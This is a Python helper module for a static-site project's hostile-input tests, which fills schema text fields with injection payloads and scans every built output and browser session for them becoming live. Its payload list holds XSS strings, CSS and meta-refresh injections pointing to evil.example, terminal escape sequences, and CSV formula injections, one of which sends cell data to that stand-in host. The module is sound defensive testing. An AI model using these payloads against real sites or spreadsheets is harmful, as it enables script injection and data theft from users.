"""Helpers of tests/proof/test_hostile.py: the schemas' text fields, hostile values, and
the checks that read every output file of a build.

Fields are found by walking the pydantic models (``model_fields``, recursively), so a field
added to a model is filled without editing the test; which file a root model reads is the
one thing listed here (``ROOTS``), and the test fails when a model is reachable from none.
"""

from __future__ import annotations

import csv
import io
import json
import re
import types
import typing
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any, Iterator

import feedparser
import lxml.html
import yaml
from lxml import etree
from pydantic import BaseModel, TypeAdapter, ValidationError

from backbone.governance.model import Governance
from backbone.identity.model import Identity
from backbone.learning.model import ReviewMeta, Voices
from backbone.metrics.model import InvestmentsFile, MetricFile
from backbone.metrics.units import UnitsFile
from backbone.partners.model import PartnersFile
from backbone.report.letter import ReportMeta
from backbone.schema import Strict
from backbone.stories.model import StoryMeta

# Which files each root model reads: a glob under the project, and whether the data is the
# front matter of a Markdown file.
ROOTS: dict[type[BaseModel], tuple[str, bool]] = {
    Identity: ("data/identity.yml", False),
    PartnersFile: ("data/partners.yml", False),
    Governance: ("data/governance.yml", False),
    MetricFile: ("data/metrics/*.yml", False),
    InvestmentsFile: ("data/investments.yml", False),
    UnitsFile: ("data/units.yml", False),
    Voices: ("data/voices.yml", False),
    StoryMeta: ("content/stories/*.md", True),
    ReviewMeta: ("content/learning/*.md", True),
    ReportMeta: ("content/reports/*.md", True),
}

# --- the schemas -----------------------------------------------------------------------

ITEM = "[]"  # a path step into any item of a list (or value of a mapping)


def _members(tp: Any) -> list[Any]:
    """The types a field may hold: Optional and unions unwrapped (Annotated kept)."""
    if typing.get_origin(tp) in (typing.Union, types.UnionType):
        return [m for a in typing.get_args(tp) if a is not type(None) for m in _members(a)]
    return [tp]


# A value any free-text field keeps as written; ids, colours, URLs, dates, periods, enums
# refuse it, so they are told apart by validating it, not by their names.
SAMPLE = "Free text, with <b> & 'quotes'"


def _free_text(tp: Any) -> bool:
    try:
        return TypeAdapter(tp).validate_python(SAMPLE) == SAMPLE
    except ValidationError:
        return False


def text_fields(model: type[BaseModel], path: tuple = ()) -> Iterator[tuple]:
    """Every path (field names and ITEM) under ``model`` whose value is free text."""
    for name, info in model.model_fields.items():
        # pydantic keeps a field's own Annotated validators apart, in ``metadata``
        tp = typing.Annotated[(info.annotation, *info.metadata)] if info.metadata else info.annotation
        yield from _walk(tp, path + (info.alias or name,))


def _walk(tp: Any, path: tuple) -> Iterator[tuple]:
    origin = typing.get_origin(tp)
    if origin in (typing.Union, types.UnionType):
        for member in _members(tp):
            yield from _walk(member, path)
    elif origin is typing.Annotated:
        base = typing.get_args(tp)[0]
        if base is str:
            if _free_text(tp):
                yield path
        else:
            yield from _walk(base, path)
    elif tp is str:
        yield path
    elif isinstance(tp, type) and issubclass(tp, BaseModel):
        yield from text_fields(tp, path)
    elif origin in (list, tuple, set, frozenset):
        for arg in typing.get_args(tp)[:1]:
            for member in _members(arg):
                yield from _walk(member, path + (ITEM,))
    elif origin is dict:
        for member in _members(typing.get_args(tp)[1]):
            yield from _walk(member, path + (ITEM,))


def models_under(model: type[BaseModel]) -> set[type]:
    """``model`` and every model its fields hold."""
    seen = {model}

    def visit(tp):
        if typing.get_origin(tp) is typing.Annotated:
            tp = typing.get_args(tp)[0]
        for m in _members(tp):
            if isinstance(m, type) and issubclass(m, BaseModel) and m not in seen:
                seen.add(m)
                for info in m.model_fields.values():
                    visit(info.annotation)
            for arg in typing.get_args(m):
                visit(arg)

    for info in model.model_fields.values():
        visit(info.annotation)
    return seen


def all_models() -> set[type]:
    """Every Strict model the package defines (its modules imported by the caller)."""
    found, todo = set(), [Strict]
    while todo:
        for sub in todo.pop().__subclasses__():
            if sub.__module__.startswith("backbone.") and sub not in found:
                found.add(sub)
                todo.append(sub)
    return found


# --- hostile values ---------------------------------------------------------------------

# Each is written after a marker; every one tries to become live in some output.
PAYLOADS = [
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    '"><svg onload=alert(1)>',
    "' onmouseover='alert(1)' x='",
    "javascript:alert(1)",
    "[click](javascript:alert(1)) <https://evil.example/a>",
    "data:text/html,<script>alert(1)</script>",
    "&lt;img src=x onerror=alert(1)&gt; &amp;&#60;b&#62;",
    "]]><script>alert(1)</script><![CDATA[",
    "</script><script>alert(1)</script>",
    "{{ 7*7 }} {% raw %} ${alert(1)} {{ metric:jobs-placed.title }}",
    '<a href="https://evil.example/">x</a> ![t](https://evil.example/t.png)',
    "\u202eevil\u202d \u2067rtl",
    "</style><style>body{background:url(https://evil.example/t.png)}</style>",
    "x; } body { background-image: url(https://evil.example/t.png) } a {",
    '<!-- c --> <?php x ?> <iframe src="https://evil.example/"></iframe>',
    '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">',
    # Formulas, for CSV cells: written before the marker, so that the cell starts with them
    '=HYPERLINK("https://evil.example/?d="&A1,"Click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "+1",
]
CONTROLS = ["\x07", "\x1b", "\x00", "\ufffe"]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
FORMULAS = [i for i, payload in enumerate(PAYLOADS) if payload.startswith(FORMULA_START)]
# Fields a CSV download publishes: they always get a formula
CSV_FIELDS = {"MetricFile.series.[].note", "MetricFile.breakdown.[].[].note"}
# A key with terminal sequences (set the title, hide what follows), planted beside a control
# character: the message that names it echoes it, and must show it, not send it.
TERMINAL_KEY = "zq999x\x1b]0;pwned\x07\x1b[8m"
TERMINAL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f]")  # what a terminal obeys (tab, newline kept)


def value(n: int, payload: str) -> str:
    """A hostile value led by its marker, or ending with it when it is a formula (which a
    spreadsheet reads only at the start of a cell)."""
    return f"{payload} {marker(n)}" if payload.startswith(FORMULA_START) else f"{marker(n)} {payload}"


def marker(n: int) -> str:
    return f"zq{n:03d}x"


MARKER = re.compile(r"zq\d{3}x", re.I)


@dataclass
class Slot:
    """One text value of one file: where it is and what the test writes there."""

    file: str  # relative to the project
    path: tuple  # concrete path into the file's data (front matter for Markdown)
    field: str  # the schema path, for messages: "StoryMeta.quote.role"


def _concrete(data: Any, path: tuple, done: tuple = ()) -> Iterator[tuple]:
    """The concrete paths of a schema path in ``data``; a missing last key is created."""
    if not path:
        yield done
        return
    step, rest = path[0], path[1:]
    if step == ITEM:
        items = (
            list(enumerate(data)) if isinstance(data, list) else list(data.items()) if isinstance(data, dict) else []
        )
        for key, value in items:
            yield from _concrete(value, rest, done + (key,))
    elif isinstance(data, dict):
        if step in data:
            yield from _concrete(data[step], rest, done + (step,))
        elif not rest:
            yield done + (step,)  # an optional text field the file leaves out: added


def _at(data, path):
    """The value at ``path``, or None where the file leaves the field out."""
    try:
        return get(data, path)
    except (KeyError, IndexError, TypeError):
        return None


def get(data, path):
    for part in path:
        data = data[part]
    return data


def put(data, path, value):
    get(data, path[:-1])[path[-1]] = value


# --- reading and writing the project ------------------------------------------------------

FRONT = re.compile(r"\A---\n(.*?\n)---\n", re.S)


def read_data(path: Path, front: bool) -> tuple[Any, str]:
    text = path.read_text(encoding="utf-8")
    if front:
        match = FRONT.match(text)
        return yaml.safe_load(match.group(1)), text[match.end() :]
    return yaml.safe_load(text), ""


def write_data(path: Path, data: Any, front: bool, body: str) -> None:
    dumped = yaml.safe_dump(data, sort_keys=False, allow_unicode=True, width=10_000)
    path.write_text(f"---\n{dumped}---\n{body}" if front else dumped, encoding="utf-8")


def slots_of(root: Path, per_field: int = 2) -> tuple[list[Slot], set[str]]:
    """Up to ``per_field`` text slots of each schema field in the project's files, and the
    schema fields found in no file (the base site must hold an example of each)."""
    slots, unfilled = [], set()
    for model, (pattern, front) in ROOTS.items():
        files = [(path, read_data(path, front)[0]) for path in sorted(root.glob(pattern))]
        for schema_path in text_fields(model):
            name = ".".join((model.__name__, *schema_path))
            found = [
                Slot(path.relative_to(root).as_posix(), concrete, name)
                for path, data in files
                for concrete in _concrete(data, schema_path)
                if not isinstance(_at(data, concrete), dict)  # a text per language: its own slots
            ]
            if not found:
                unfilled.add(name)
            slots += found[:per_field]
    return slots, unfilled


def fill(root: Path, values: dict[int, str], slots: list[Slot], bodies: dict[str, str]) -> None:
    """Write ``values[i]`` into ``slots[i]``, and append ``bodies[file]`` to Markdown bodies."""
    by_file: dict[str, list[int]] = {}
    for i in values:
        by_file.setdefault(slots[i].file, []).append(i)
    for rel in sorted(set(by_file) | set(bodies)):
        front = rel.endswith(".md")
        data, body = read_data(root / rel, front)
        for i in by_file.get(rel, []):
            put(data, slots[i].path, values[i])
        write_data(root / rel, data, front, body + bodies.get(rel, ""))


def plant_key(root: Path, rel: str, key: str) -> None:
    """Add ``key`` at the top of the file's data (its front matter for Markdown)."""
    front = rel.endswith(".md")
    data, body = read_data(root / rel, front)
    data[key] = "x"
    write_data(root / rel, data, front, body)


# --- reading every output -----------------------------------------------------------------

URL_ATTRS = {
    "href",
    "src",
    "action",
    "formaction",
    "srcset",
    "poster",
    "data",
    "background",
    "cite",
    "xlink:href",
    "ping",
    "manifest",
    "icon",
    "lowsrc",
    "dynsrc",
}
TEXT_ATTRS = {
    "alt",
    "title",
    "aria-label",
    "content",
    "placeholder",
    "value",
    "label",
    "aria-description",
    "data-clipboard-text",
    "summary",
}
HOSTILE_URL = re.compile(r"^\s*(?:javascript|vbscript|data|livescript):", re.I)
EVIL = re.compile(r"evil\.example|alert\(1\)", re.I)


@dataclass
class Findings:
    live: list[str] = field(default_factory=list)  # what the input made live, with where
    shown: set[str] = field(default_factory=set)  # markers seen as text
    files: int = 0

    def flag(self, where: str, what: str, context: str = "") -> None:
        """``context``: the markup around, whose marker names the field the value came from."""
        fields = sorted(set(MARKER.findall(context + what)))
        self.live.append(f"{where}: {what[:160]}" + (f" [markers {', '.join(fields[:3])}]" if fields else ""))

    def saw(self, text: str) -> None:
        self.shown.update(m.lower() for m in MARKER.findall(text or ""))


def _clean_url(value: str) -> str:
    return re.sub(r"[\x00-\x20]", "", value)


def _live_url(value: str, tag: str) -> bool:
    """A URL the input steers: a script or data scheme, or input in its scheme, host or path.
    Input in the query (share links: '?text=...', percent-encoded) is data for that site."""
    url = _clean_url(value)
    if HOSTILE_URL.match(url):
        return tag != "img" or bool(EVIL.search(url) or MARKER.search(url))  # the theme's own data: images
    if url.startswith("#"):
        return False
    head = url.split("?", 1)[0].split("#", 1)[0]
    if tag in ("a", "area") and not MARKER.search(head):
        return False  # a link an author wrote to another site is allowed; fetching from one is not
    return bool(EVIL.search(head) or MARKER.search(head))


def check_html(html: str, where: str, found: Findings, fragment: bool = False) -> None:
    """Nothing in ``html`` that the input put there is an element, attribute, URL or script."""
    if not html or not html.strip():
        return
    try:
        root = (
            lxml.html.fragment_fromstring(html, create_parent="div")
            if fragment
            else lxml.html.document_fromstring(html)
        )
    except (etree.ParserError, ValueError):
        found.flag(where, "does not parse as HTML")
        return
    for el in root.iter():
        if not isinstance(el.tag, str):
            continue  # comments and processing instructions are inert
        tag = el.tag.lower()
        around = el.getparent() if el.getparent() is not None else el
        flag = lambda what: found.flag(where, what, etree.tostring(around, encoding="unicode", with_tail=False)[:2000])  # noqa: E731
        if MARKER.search(tag):
            flag(f"element <{tag}>")
        if tag in ("script", "style"):
            body = el.text or ""
            kind = (el.get("type") or "").lower()
            if tag == "script" and kind.endswith("json"):
                try:
                    json.loads(body)
                except ValueError:
                    flag("a JSON script block that no longer parses")
            elif MARKER.search(body) or EVIL.search(body):
                flag(f"<{tag}> text {body.strip()[:80]!r}")
        if tag in ("iframe", "object", "embed", "base", "frame") and EVIL.search(" ".join(el.attrib.values())):
            flag(f"<{tag}> to evil.example")
        for name, value in el.attrib.items():
            name_l = name.lower()
            if MARKER.search(name) or (name_l.startswith("on") and (MARKER.search(value) or EVIL.search(value))):
                flag(f"attribute {name}={value[:60]!r} on <{tag}>")
            elif name_l in URL_ATTRS or name_l.endswith("href"):
                if _live_url(value, tag):
                    flag(f"URL {name}={value[:80]!r} on <{tag}>")
            elif name_l == "style" and (MARKER.search(value) or EVIL.search(value)):
                flag(f"style {value[:80]!r} on <{tag}>")
            elif (
                name_l == "content"
                and tag == "meta"
                and el.get("http-equiv")
                and (EVIL.search(value) or MARKER.search(value))
            ):
                flag(f"<meta http-equiv> {value[:80]!r}")
            elif (
                name_l in ("id", "class", "for", "name")
                and MARKER.search(value)
                and not re.fullmatch(r"[\w .:-]+", value)
            ):
                flag(f"{name}={value[:60]!r} on <{tag}>")
            elif name_l in TEXT_ATTRS:
                found.saw(value)
        if tag not in ("script", "style"):
            found.saw(el.text)
        found.saw(el.tail)


def check_xml(path: Path, where: str, found: Findings) -> etree._Element | None:
    try:
        root = etree.parse(str(path), etree.XMLParser(resolve_entities=False, no_network=True)).getroot()
    except etree.XMLSyntaxError as exc:
        found.flag(where, f"does not parse as XML: {exc}")
        return None
    for el in root.iter():
        if not isinstance(el.tag, str):
            continue
        if MARKER.search(el.tag):
            found.flag(where, f"element {el.tag}")
        local = etree.QName(el).localname.lower()
        if local in ("script", "foreignobject", "iframe") and (
            MARKER.search("".join(el.itertext())) or EVIL.search("".join(el.itertext()))
        ):
            found.flag(where, f"<{local}> carries input")
        for name, value in el.attrib.items():
            lname = etree.QName(name).localname.lower()
            if MARKER.search(name) or lname.startswith("on") and (MARKER.search(value) or EVIL.search(value)):
                found.flag(where, f"attribute {name}={value[:60]!r}")
            elif (
                lname in ("href", "src")
                and _live_url(value, local)
                or lname == "style"
                and (EVIL.search(value) or MARKER.search(value))
            ):
                found.flag(where, f"{lname}={value[:80]!r} on {local}")
            else:
                found.saw(value)
        if local != "style":
            found.saw(el.text)
        elif MARKER.search(el.text or "") or EVIL.search(el.text or ""):
            found.flag(where, f"<style> carries input {el.text[:80]!r}")
        found.saw(el.tail)
    return root


RSS_HTML = {
    "description",
    "{http://purl.org/rss/1.0/modules/content/}encoded",
    "title",
    "category",
    "{http://purl.org/dc/elements/1.1/}creator",
}
ATOM = "{http://www.w3.org/2005/Atom}"


def check_feed(path: Path, root: etree._Element, where: str, found: Findings) -> None:
    """Feed fields readers may render as HTML, read as HTML; then as feedparser reads them."""
    for el in root.iter():
        if not isinstance(el.tag, str) or not el.text:
            continue
        rss_html = root.tag == "rss" and el.tag in RSS_HTML
        atom_html = el.tag.startswith(ATOM) and el.get("type") in ("html", "xhtml")
        if rss_html or atom_html:
            check_html(el.text, f"{where} <{etree.QName(el).localname}>", found, fragment=True)
    parsed = feedparser.parse(path)
    if parsed.bozo:
        found.flag(where, f"feedparser: {parsed.bozo_exception}")
    for entry in [parsed.feed, *parsed.entries]:
        for key, value in entry.items():
            if key.endswith("_detail") and isinstance(value, dict) and value.get("type") == "text/html":
                check_html(value.get("value", ""), f"{where} (feedparser {key})", found, fragment=True)


def check_json(path: Path, where: str, found: Findings) -> None:
    try:
        document = json.loads(path.read_text(encoding="utf-8"))
    except ValueError as exc:
        found.flag(where, f"does not parse as JSON: {exc}")
        return
    if path.name == "search_index.json":  # mkdocs-material inserts titles and text as HTML
        for doc in document.get("docs", []):
            check_html(doc.get("title", ""), f"{where} title of {doc.get('location')}", found, fragment=True)
            check_html(doc.get("text", ""), f"{where} text of {doc.get('location')}", found, fragment=True)
    elif isinstance(document, dict) and str(document.get("version", "")).startswith("https://jsonfeed.org/"):
        for item in document.get("items", []):
            check_html(item.get("content_html", ""), f"{where} content_html", found, fragment=True)
            for key in ("title", "summary"):
                found.saw(item.get(key))
        found.saw(document.get("title"))
    else:
        found.saw(json.dumps(document, ensure_ascii=False))


def spreadsheet_formula(cell: str) -> bool:
    """A spreadsheet's rule (Excel, LibreOffice, Google Sheets): a cell that starts so is a
    formula, unless it is a plain number."""
    if not cell.startswith(FORMULA_START):
        return False
    try:
        float(cell)
    except ValueError:
        return True
    return False


def check_csv(text: str, where: str, found: Findings) -> None:
    """Each cell as a spreadsheet opens it: never a formula."""
    for row in csv.reader(io.StringIO(text)):
        for cell in row:
            found.saw(cell)
            if spreadsheet_formula(cell):
                found.flag(where, f"a cell a spreadsheet runs as a formula: {cell[:80]!r}")


def check_site(site: Path) -> Findings:
    """Read every file of ``site`` with the parser its kind needs."""
    found = Findings()
    for path in sorted(p for p in site.rglob("*") if p.is_file()):
        rel = path.relative_to(site).as_posix()
        suffix = path.suffix.lower()
        found.files += 1
        if suffix == ".html":
            check_html(path.read_text(encoding="utf-8"), rel, found)
        elif suffix in (".xml", ".svg", ".rss", ".atom"):
            root = check_xml(path, rel, found)
            if root is not None and suffix in (".rss", ".atom"):
                check_feed(path, root, rel, found)
        elif suffix == ".json":
            check_json(path, rel, found)
        elif suffix in (".css", ".js"):
            text = path.read_text(encoding="utf-8", errors="replace")
            if MARKER.search(text) or EVIL.search(text):
                found.flag(rel, f"input in a {suffix} file: {(MARKER.search(text) or EVIL.search(text)).group()}")
        elif suffix == ".csv":
            check_csv(path.read_text(encoding="utf-8"), rel, found)
        elif suffix == ".pdf":  # the annual report: its text as a reader's viewer extracts it
            import pypdf

            found.saw("\n".join(page.extract_text() or "" for page in pypdf.PdfReader(path).pages))
        elif suffix in (".txt", ".md"):
            text = path.read_text(encoding="utf-8")
            found.saw(text)
            if suffix == ".txt" and re.search(r"<(?:script|img|svg|iframe|a|style)\b", text, re.I):
                found.flag(rel, "markup in a plain-text e-mail")
    return found


# --- pages in a browser ------------------------------------------------------------------

# What a reader's browser did on each page: a dialog (the payloads call alert), a request to
# another site (the server is on 127.0.0.1), an error of a script.
SECTION = re.compile(r"^([^/]*)/")
# Pictures, fonts and styles are refused (a refused picture fires its onerror as a failed
# one does): scripts and the markup that could run them are what this reads.
NOT_LOADED = ("image", "font", "stylesheet", "media")


def pages_to_open(site: Path) -> list[str]:
    """The home page and the first page of each section (the first folder): the same pages
    for every example."""
    chosen: dict[str, str] = {}
    for path in sorted(site.rglob("index.html")):
        rel = path.relative_to(site).as_posix()
        chosen.setdefault(m.group(1) if (m := SECTION.match(rel)) else "", rel)
    return sorted(chosen.values())


def browse(browser, site: Path, pages: list[str], own: str = "") -> list[str]:
    """Open each of ``pages`` in Chromium as a reader would (scripts on) and say what fired:
    dialogs, requests that leave the site (``own``, the site's address, is the site: not
    served here, so not fetched either), uncaught script errors."""
    from browsing import served

    fired: list[str] = []
    current = [""]
    with served(site) as server:
        context = browser.new_context(viewport={"width": 1280, "height": 900})

        def route(request_route):
            request = request_route.request
            if request.url.startswith(server) and request.resource_type not in NOT_LOADED:
                request_route.continue_()
                return
            if not request.url.startswith(server) and not (own and request.url.startswith(own)):
                fired.append(f"{current[0]}: request to another site {request.url[:100]}")
            request_route.abort()

        try:
            context.route("**/*", route)
            page = context.new_page()
            page.on("dialog", lambda d: (fired.append(f"{current[0]}: dialog {d.message!r}"), d.dismiss()))
            page.on("pageerror", lambda e: fired.append(f"{current[0]}: script error {e}"))
            for rel in pages:
                current[0] = rel
                page.goto(server + rel, wait_until="load")  # after every picture has failed
        finally:
            context.close()
    return fired
